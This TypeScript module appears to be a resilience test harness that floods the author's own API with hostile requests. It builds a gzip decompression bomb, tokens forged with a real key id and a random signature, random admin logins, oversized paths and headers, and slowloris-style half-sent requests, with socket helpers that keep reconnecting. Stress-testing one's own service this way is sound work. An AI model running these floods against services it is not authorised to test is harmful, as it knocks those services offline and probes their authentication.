import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Target } from './targets.ts';

/**
 * One kind of request that is sent over and over. Bytes are made once: the flood shares the machine with what
 * it floods.
 */
export interface Attack {
  name: string;
  /** The bytes of one request; another one with every call. */
  next(): Buffer;
}

const crlf = '\r\n';
const request = (
  method: string,
  target: string,
  headers: Record<string, string>,
  body: Buffer | string = '',
): Buffer => {
  const bytes = Buffer.from(body);
  const all = { host: 'flood', ...headers, ...(bytes.length > 0 ? { 'content-length': String(bytes.length) } : {}) };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}${crlf}`);
  return Buffer.concat([Buffer.from(`${method} ${target} HTTP/1.1${crlf}${head.join('')}${crlf}`), bytes]);
};

/** A read of the own entitlements, as bytes. */
export const readRequest = (headers: Record<string, string>): Buffer =>
  request('GET', '/v1/applications/demo/entitlements/me', headers);

const variants = 200;
const cycle = (name: string, make: (at: number) => Buffer): Attack => {
  const made = Array.from({ length: variants }, (_, at) => make(at));
  let at = 0;
  return {
    name,
    next() {
      at = (at + 1) % made.length;
      return made[at] as Buffer;
    },
  };
};

const encoded = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Tokens of the right form, with a key id that exists and a signature that is none. */
async function forgery({ jwksUrl, issuer }: Target): Promise<() => string> {
  const { keys } = (await (await fetch(jwksUrl)).json()) as { keys: { kid: string; alg?: string }[] };
  const rsa = keys.find(({ alg }) => alg === 'RS256') ?? keys[0];
  const exp = Math.floor(Date.now() / 1000) + 3_600;
  return () => {
    const head = encoded({ alg: 'RS256', kid: rsa?.kid });
    const claims = encoded({ iss: issuer, aud: 'demo-app', exp, sub: randomBytes(8).toString('hex') });
    return `${head}.${claims}.${randomBytes(256).toString('base64url')}`;
  };
}

/** A kilobyte that inflates to a mebibyte which is slow to parse and names the application last. */
const bomb = (): Buffer => gzipSync(`[${'[],'.repeat(349_000)}{"application_code":"demo"}]`, { level: 9 });

/** Requests sent as fast as the rate allows. Each one is refused, or would be without load shedding. */
export async function requestAttacks(target: Target): Promise<Attack[]> {
  const forged = await forgery(target);
  const inflating = bomb();
  const json = { 'content-type': 'application/json' };
  const long = 'x'.repeat(30_000);
  const anything = () => randomBytes(16).toString('hex');
  return [
    cycle('compressed bodies without a right to call', () =>
      request(
        'POST',
        '/v1/events/batch',
        { ...json, 'content-encoding': 'gzip', authorization: `Bearer ${forged()}` },
        inflating,
      ),
    ),
    cycle('compressed bodies without a token', () =>
      request('POST', '/v1/events/batch', { ...json, 'content-encoding': 'gzip' }, inflating),
    ),
    cycle('forged tokens', () =>
      request('GET', '/v1/applications/demo/entitlements/me', {
        authorization: `Bearer ${forged()}`,
        'x-application-code': 'demo',
      }),
    ),
    cycle('sessions that are none', () =>
      request('GET', '/v1/admin/me', { authorization: `Bearer adm_${anything()}${'0'.repeat(11)}` }),
    ),
    cycle('keys that are none', () =>
      request(
        'POST',
        '/v1/events',
        { ...json, authorization: `Bearer ${forged()}`, 'x-public-key': `svc_pub_${anything()}` },
        '{}',
      ),
    ),
    cycle('applications that are none', () => request('GET', `/v1/applications/a${anything()}/branding`, {})),
    cycle('names of 30 kB in a path', () => request('GET', `/v1/applications/${anything()}${long}/branding`, {})),
    cycle('names of 30 kB in a header', () =>
      request('GET', '/v1/config', { 'x-application-code': `${anything()}${long}` }),
    ),
    cycle('admin logins', () =>
      request(
        'POST',
        '/v1/admin/sessions',
        json,
        JSON.stringify({ email: `${anything()}@example.test`, password: anything() }),
      ),
    ),
  ];
}

/**
 * Clients that hold what they were given: they send half of what they announce, or read nothing of what they
 * asked for.
 */
export const holdingAttacks = ({ siteCode, siteKey }: Target): (Attack & { connections: number })[] => {
  const half = request(
    'POST',
    `/v1/sites/${siteCode}/events`,
    { 'content-type': 'application/json', 'x-public-key': siteKey },
    Buffer.alloc(900_000, 0x20),
  ).subarray(0, 300_000);
  const files = Buffer.concat(Array(2).fill(request('GET', '/v1/openapi.json', {})) as Buffer[]);
  const head = Buffer.from(`GET /v1/health HTTP/1.1${crlf}host: flood${crlf}x-slow: `);
  return [
    { name: 'half-sent bodies', connections: 4, next: () => half },
    { name: 'clients that never read', connections: 2, next: () => files },
    { name: 'half-sent heads', connections: 4, next: () => head },
  ];
};

export interface Sender {
  /** Sends a request when the connection has nothing under way; says whether it did. */
  send(bytes: Buffer): boolean;
  close(): void;
}

const delimiter = Buffer.from('HTTP/1.1 ');

/**
 * One connection from one address that has one request under way at a time. It is opened again when it was
 * closed.
 */
export function openSender(target: Target, localAddress: string, onStatus: (status: number) => void): Sender {
  const { hostname, port } = new URL(target.baseUrl);
  let socket: Socket | null = null;
  let isBusy = false;
  let isClosed = false;
  const open = (): Socket => {
    const opened = connect({ host: hostname, port: Number(port), localAddress, noDelay: true });
    opened.on('data', (chunk: Buffer) => {
      if (!isBusy || chunk.indexOf(delimiter) !== 0) return;
      isBusy = false;
      const status = Number(chunk.toString('latin1', 9, 12));
      onStatus(status);
    });
    opened.on('error', () => {});
    opened.on('close', () => {
      if (isBusy) onStatus(0);
      isBusy = false;
      if (socket === opened) socket = null;
    });
    return opened;
  };
  return {
    send(bytes) {
      if (isBusy || isClosed) return false;
      socket ??= open();
      isBusy = true;
      socket.write(bytes);
      return true;
    },
    close() {
      isClosed = true;
      socket?.destroy();
    },
  };
}

/**
 * A connection that sends these bytes and then neither writes nor reads. It comes back a second after it was
 * closed.
 */
export function openHolder(
  target: Target,
  localAddress: string,
  bytes: Buffer,
  onClosed: () => void,
): { close(): void } {
  const { hostname, port } = new URL(target.baseUrl);
  let isClosed = false;
  let socket: Socket;
  const open = () => {
    if (isClosed) return;
    socket = connect({ host: hostname, port: Number(port), localAddress });
    socket.pause();
    socket.on('error', () => {});
    socket.on('close', () => {
      onClosed();
      setTimeout(open, 1_000).unref();
    });
    socket.write(bytes);
  };
  open();
  return {
    close() {
      isClosed = true;
      socket.destroy();
    },
  };
}
